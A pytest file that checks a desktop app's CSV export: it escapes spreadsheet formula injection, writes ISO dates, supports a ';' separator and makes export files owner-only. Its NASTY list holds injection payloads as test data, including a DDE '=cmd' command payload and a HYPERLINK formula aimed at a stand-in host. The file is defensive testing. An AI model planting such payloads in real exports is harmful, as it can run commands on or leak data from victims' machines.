"""CSV that no spreadsheet misreads (issue 16 §5): formulas neutralised in every piece a
spreadsheet could cut a field into, ISO dates, a ";" variant, owner-only files.

Every CSV here is a real file read back with the csv module, or split by hand the way a
spreadsheet with another separator (or one that ignores the quoting) splits it.
"""

from __future__ import annotations

import csv
import re
import stat
import sys
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from factories import make_household_line, make_visit_line

from sp_desktop.core.documents import issuing
from sp_desktop.core.documents.spreadsheets import (
    HOUSEHOLD_HEADERS,
    VISIT_HEADERS,
    _csv_cell,
    write_csv,
    write_visits_csv,
)
from sp_desktop.core.domain.model import Helper, Post
from sp_desktop.core.domain.reports import HouseholdLine, ReportFilter, VisitLine
from sp_desktop.core.security.installation import Installation

FORMULA_START = ("=", "+", "-", "@")

# What people type, and what an attacker types: each one hides a formula in some piece.
NASTY = [
    "=1+1",
    "Jl. A;+1+1",
    "Jl. A,+1+1",
    'Jl. A;=HYPERLINK("http://contoh.invalid/?q="&A1;"Klik")',
    "Gang Melati, -",
    "RT 3; @SUM(A1:A9)",
    'Jl. B;"=1+1"',
    'Jl. C; "  -2+3"',
    "baris satu\r\n=cmd|' /C calc'!A0",
    "baris satu\n+62 812",
    "\t=1+1",
    "\tbiasa",
    "\rbiasa",
    "a\t-1",
    "'=sudah ada apostrof",
    "x;'+1",
    ";;;=1",
    ",,=,=",
    "-",
    "@",
]

# Ordinary text must come through untouched.
PLAIN = [
    "Baiq Nurul Aini",
    "Jl. Saleh Sungkar No. 12, Ampenan",
    "I Made Sudarsana; Ni Luh Putu",
    "Catatan: 3 orang (anak-anak)",
    "#N/A",
    "Nilai 5-3 = 2",
    "e-mail: contoh@contoh.invalid",
    "",
]


def restore(text: str) -> str:
    """The docstring's rule for a person: delete the apostrophe the export added at the
    start of a piece (before = + - @, past spaces, quotes and apostrophes), and the one in
    front of a leading tab or carriage return."""
    if text.startswith(("'\t", "'\r")):
        text = text[1:]
    return re.sub(r"(?:^|(?<=[,;\t\r\n]))'(?=[ \"']*[=+\-@])", "", text)


def pieces(line: str) -> list[str]:
    """Every piece a spreadsheet could make of one raw line: split on ";", on ",", on tab,
    and on line breaks, ignoring the quoting."""
    out: list[str] = []
    for separator in (";", ",", "\t"):
        for part in re.split(r"\r\n|\r|\n", line):
            out += part.split(separator)
    return out


def starts_a_formula(piece: str) -> bool:
    return piece.lstrip(' "').startswith(FORMULA_START)


@pytest.mark.parametrize("text", NASTY)
def test_no_piece_of_a_nasty_field_starts_a_formula(text: str) -> None:
    cell = _csv_cell(text)
    assert not [p for p in pieces(cell) if starts_a_formula(p)], cell
    assert not cell.startswith(("\t", "\r"))
    assert restore(cell) == text  # the rule reverses exactly


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_left_alone(text: str) -> None:
    assert _csv_cell(text) == text


def test_examples_from_the_docstring() -> None:
    assert _csv_cell("=1+1") == "'=1+1"
    assert _csv_cell("Jl. A;+1+1") == "Jl. A;'+1+1"
    assert _csv_cell("x, -") == "x,' -"
    assert _csv_cell("'=x") == "''=x"
    assert _csv_cell("\tbiasa") == "'\tbiasa"


def test_dates_and_moments_are_iso() -> None:
    assert _csv_cell(date(2020, 3, 2)) == "2020-03-02"
    assert _csv_cell(datetime(2020, 3, 2, 9, 5)) == "2020-03-02 09:05"
    assert _csv_cell(datetime(2020, 12, 31, 23, 59).time()) == "23:59"
    assert _csv_cell(16) == "16" and _csv_cell(None) == ""


# -- whole files ------------------------------------------------------------------------


def household(number: int, **changes: Any) -> HouseholdLine:
    return make_household_line(number, **changes)


def visit(number: int, **changes: Any) -> VisitLine:
    return make_visit_line(number, **changes)


def nasty_households() -> list[HouseholdLine]:
    return [
        household(n, head_name=text, address=NASTY[-1 - n])
        for n, text in enumerate(NASTY, 1)
        if n < len(NASTY)
    ]


def nasty_visits() -> list[VisitLine]:
    return [
        visit(n, head_name=text, failure_note=text, note=NASTY[-1 - n])
        for n, text in enumerate(NASTY, 1)
        if n < len(NASTY)
    ]


def read(path: Path, separator: str) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as src:
        return list(csv.reader(src, delimiter=separator))


@pytest.mark.parametrize("separator", [",", ";"])
def test_households_csv_reads_back_with_either_separator(tmp_path: Path, separator: str) -> None:
    path = tmp_path / "rumah-tangga.csv"
    lines = nasty_households()
    assert write_csv(path, lines, separator=separator) == len(lines)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfNo" + separator.encode() + b"No KK")
    rows = read(path, separator)
    assert rows[0] == list(HOUSEHOLD_HEADERS)
    assert len(rows) == len(lines) + 1
    for line, row in zip(lines, rows[1:], strict=True):
        assert len(row) == len(HOUSEHOLD_HEADERS)
        assert row[1:3] == [line.no_kk, line.head_nik]  # 16 plain digits
        assert restore(row[3]) == line.head_name and restore(row[6]) == line.address
        assert row[12] == "2020-03-02" and row[14] == "2020-03-12"
    # The file as a whole: no piece of any line, cut any way, starts a formula.
    text = raw.decode("utf-8-sig")
    assert not [p for p in pieces(text) if starts_a_formula(p)]


@pytest.mark.parametrize("separator", [",", ";"])
def test_visits_csv_reads_back_with_either_separator(tmp_path: Path, separator: str) -> None:
    path = tmp_path / "kunjungan.csv"
    lines = nasty_visits()
    assert write_visits_csv(path, lines, separator=separator) == len(lines)
    rows = read(path, separator)
    assert rows[0] == list(VISIT_HEADERS)
    for line, row in zip(lines, rows[1:], strict=True):
        assert row[1:5] == ["2020-03-02", "09:15", line.no_kk, line.head_nik]
        assert restore(row[5]) == line.head_name
        assert restore(row[11]) == line.failure_note and restore(row[17]) == line.note
        assert row[12] == "2020-03-12" and row[14] == "198507142010011002"
    text = path.read_bytes().decode("utf-8-sig")
    assert not [p for p in pieces(text) if starts_a_formula(p)]


def test_another_separator_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="separator"):
        write_csv(tmp_path / "x.csv", [], separator="\t")
    assert not list(tmp_path.iterdir())


# -- owner-only files -------------------------------------------------------------------


@pytest.mark.skipif(sys.platform == "win32", reason="file modes are POSIX")
@pytest.mark.parametrize("separator", [",", ";"])
def test_csv_is_owner_only(tmp_path: Path, separator: str) -> None:
    path = tmp_path / "rumah-tangga.csv"
    write_csv(path, [household(1)], separator=separator)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def zip_modes(path: Path) -> dict[str, int]:
    with zipfile.ZipFile(path) as archive:
        return {
            info.filename: stat.S_IMODE(info.external_attr >> 16) for info in archive.infolist()
        }


@pytest.mark.skipif(sys.platform == "win32", reason="file modes are POSIX")
@pytest.mark.parametrize("as_zip", [False, True])
def test_the_handover_package_is_owner_only(
    installation: Installation, people: tuple[Helper, Post], tmp_path: Path, as_zip: bool
) -> None:
    out = tmp_path / ("serah-terima.zip" if as_zip else "serah-terima")
    package = issuing.write_handover(installation.storage, ReportFilter(), out)
    if as_zip:
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
        modes = zip_modes(out)
        assert sorted(modes) == sorted(package.files)
        # Unzipped by Info-ZIP or Python, the members stay owner-only too.
        assert set(modes.values()) == {0o600}, modes
    else:
        assert stat.S_IMODE(out.stat().st_mode) == 0o700
        files = sorted(out.iterdir())
        assert [p.name for p in files] == sorted(package.files)
        assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in files} == dict.fromkeys(
            package.files, 0o600
        )
    assert not list(tmp_path.glob("*.partial"))


@pytest.mark.skipif(sys.platform == "win32", reason="file modes are POSIX")
def test_a_leftover_partial_zip_does_not_keep_its_mode(
    installation: Installation, people: tuple[Helper, Post], tmp_path: Path
) -> None:
    out = tmp_path / "serah-terima.zip"
    leftover = tmp_path / "serah-terima.zip.partial"
    leftover.write_bytes(b"sisa listrik padam")
    leftover.chmod(0o644)
    issuing.write_handover(installation.storage, ReportFilter(), out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
